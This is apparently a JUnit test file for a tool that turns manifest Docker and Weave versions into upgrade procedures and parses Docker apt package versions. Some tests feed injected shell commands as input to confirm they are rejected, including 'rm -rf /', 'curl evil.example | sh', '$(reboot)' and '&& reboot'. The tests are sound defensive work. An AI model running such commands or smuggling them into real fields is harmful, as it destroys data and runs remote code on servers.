package dev.upkeep.remote;

import dev.upkeep.fleet.Settings;
import dev.upkeep.manifest.ManifestDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Manifest versions → procedures, checked before any server is contacted; Docker's apt version scheme. */
class DockerWeaveProceduresTest {
    private static final DockerWeaveProcedures BOTH = new DockerWeaveProcedures(
            new DockerWeaveProcedures.Options(true, true, false, null));

    private static ManifestDocument manifest(String yaml) {
        return ManifestDocument.parse(yaml, "Manifest.yml");
    }

    private static ManifestDocument corpus(String path) throws Exception {
        try (InputStream in = DockerWeaveProceduresTest.class.getResourceAsStream("/manifests/" + path)) {
            return ManifestDocument.parse(new String(in.readAllBytes(), StandardCharsets.UTF_8), path);
        }
    }

    @Test
    void aShellCommandInDockerVersionIsRejectedBeforeAnyProcedureExists() {
        ManifestDocument hostile = manifest("""
                docker:
                  configuration:
                    docker_version: "24.0.7; rm -rf /"
                    weave_version: 2.8.1
                """);
        assertThatThrownBy(() -> BOTH.forApplication(hostile, null))
                .isInstanceOf(UpgradeTargetsException.class)
                .hasMessage("Manifest.yml: docker.configuration.docker_version is not a Docker version like 24.0.7 or"
                        + " 18.03.0-ce: '24.0.7; rm -rf /'");
        assertThatThrownBy(() -> new DockerUpgrade("24.0.7; rm -rf /", false)).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void theCorpusInjectionManifestIsRejectedToo() throws Exception {
        ManifestDocument doc = corpus("bad/b11-docker-version-injection.yml");
        assertThatThrownBy(() -> UpgradeTargets.of(doc, null)).isInstanceOf(UpgradeTargetsException.class)
                .hasMessageContaining("'24.0.7; curl evil.example | sh'");
    }

    @Test
    void dockerComesBeforeWeaveWithTheManifestsVersions() throws Exception {
        List<Procedure> procedures = BOTH.forApplication(manifest("""
                docker:
                  configuration:
                    docker_version: 24.0.7
                    weave_version: 2.8.1
                """), null);
        assertThat(procedures).extracting(Procedure::name).containsExactly("Docker 24.0.7", "Weave 2.8.1");
        assertThat(((WeaveUpgrade) procedures.get(1)).url())
                .isEqualTo("https://github.com/weaveworks/weave/releases/download/v2.8.1/weave");
    }

    @Test
    void anOlderManifestsVersionKeyUnderItsEnvironmentIsRead() throws Exception {
        ManifestDocument doc = corpus("good/03-older-version-key.yml");
        assertThat(UpgradeTargets.of(doc, "production")).isEqualTo(new UpgradeTargets(Optional.of("18.03.0-ce"), Optional.of("2.3.0")));
        assertThat(UpgradeTargets.of(doc, "staging").docker()).contains("17.06.2-ce");
        assertThatThrownBy(() -> UpgradeTargets.of(doc, "qa")).hasMessageContaining("has no environment 'qa'");
    }

    @Test
    void anOptionWithoutItsVersionInTheManifestIsBadInput() throws Exception {
        ManifestDocument dockerOnly = manifest("docker:\n  configuration:\n    docker_version: 25.0.3\n");
        assertThatThrownBy(() -> BOTH.forApplication(dockerOnly, null)).isInstanceOf(UpgradeTargetsException.class)
                .hasMessage("Manifest.yml names no Weave version (docker: configuration: weave_version)");
        var dockerOption = new DockerWeaveProcedures(new DockerWeaveProcedures.Options(true, false, true, null));
        assertThat(dockerOption.forApplication(dockerOnly, null)).singleElement()
                .isInstanceOfSatisfying(DockerUpgrade.class, d -> assertThat(d.allowDowngrade()).isTrue());
        var none = new DockerWeaveProcedures(new DockerWeaveProcedures.Options(false, false, false, null));
        assertThat(none.forApplication(manifest("{}"), null)).isEmpty();
    }

    @Test
    void theWeaveUrlTemplateTakesTheVersionAndMustStayPlain() {
        assertThat(WeaveUpgrade.downloadUrl("https://mirror.example.com/weave/{version}/weave-{version}", "2.8.1"))
                .isEqualTo("https://mirror.example.com/weave/2.8.1/weave-2.8.1");
        assertThat(Settings.isWeaveUrlTemplate(Settings.DEFAULT_WEAVE_DOWNLOAD_URL)).isTrue();
        assertThatThrownBy(() -> new DockerWeaveProcedures.Options(false, true, false, "https://x/weave"))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> WeaveUpgrade.downloadUrl("https://x/{version}'$(reboot)'", "2.8.1"))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> WeaveUpgrade.downloadUrl("ftp://x/{version}", "2.8.1"))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new WeaveUpgrade("2.8.1 && reboot", Settings.DEFAULT_WEAVE_DOWNLOAD_URL))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @ParameterizedTest(name = "{0} is Docker {1}")
    @CsvSource({
            "5:24.0.7-1~debian.12~bookworm, 24.0.7",
            "5:25.0.3-1~ubuntu.22.04~jammy, 25.0.3",
            "5:18.09.0~3-0~debian-stretch, 18.09.0",
            "18.03.0~ce-0~debian, 18.03.0-ce",
            "18.06.3~ce~3-0~debian, 18.06.3-ce",
            "17.03.0~ce-0~debian-jessie, 17.03.0-ce",
            "5:24.0.0~rc.1-1~debian.12~bookworm, ''",
            "24.0.7, ''"})
    void dockerPackageVersionsMapToDockerVersions(String packageVersion, String docker) {
        assertThat(DockerCandidates.dockerVersionOf(packageVersion).orElse("")).isEqualTo(docker);
    }

    @Test
    void madisonIsParsedAndTheNewestMatchingPackageChosen() {
        List<String> offered = DockerCandidates.parse(List.of(
                " docker-ce | 5:25.0.3-1~debian.12~bookworm | https://download.docker.com/linux/debian bookworm/stable amd64 Packages",
                " docker-ce | 5:24.0.7-1~debian.12~bookworm | https://download.docker.com/linux/debian bookworm/stable amd64 Packages",
                " docker-ce | 5:24.0.7-1~debian.12~bookworm | http://mirror.local/docker bookworm/stable amd64 Packages",
                "docker-ce | 18.06.3~ce~3-0~debian | https://download.docker.com/linux/debian stretch/stable amd64 Packages",
                "garbage"));
        assertThat(offered).containsExactly("5:25.0.3-1~debian.12~bookworm", "5:24.0.7-1~debian.12~bookworm",
                "18.06.3~ce~3-0~debian");
        assertThat(DockerCandidates.match(offered, "24.0.7")).contains("5:24.0.7-1~debian.12~bookworm");
        assertThat(DockerCandidates.match(offered, "18.06.3-ce")).contains("18.06.3~ce~3-0~debian");
        assertThat(DockerCandidates.match(offered, "18.06.3")).isEmpty();
        assertThat(DockerCandidates.match(offered, "24.0.6")).isEmpty();
        assertThat(DockerCandidates.releases(offered)).containsExactly("25.0.3", "24.0.7", "18.06.3-ce");
    }
}
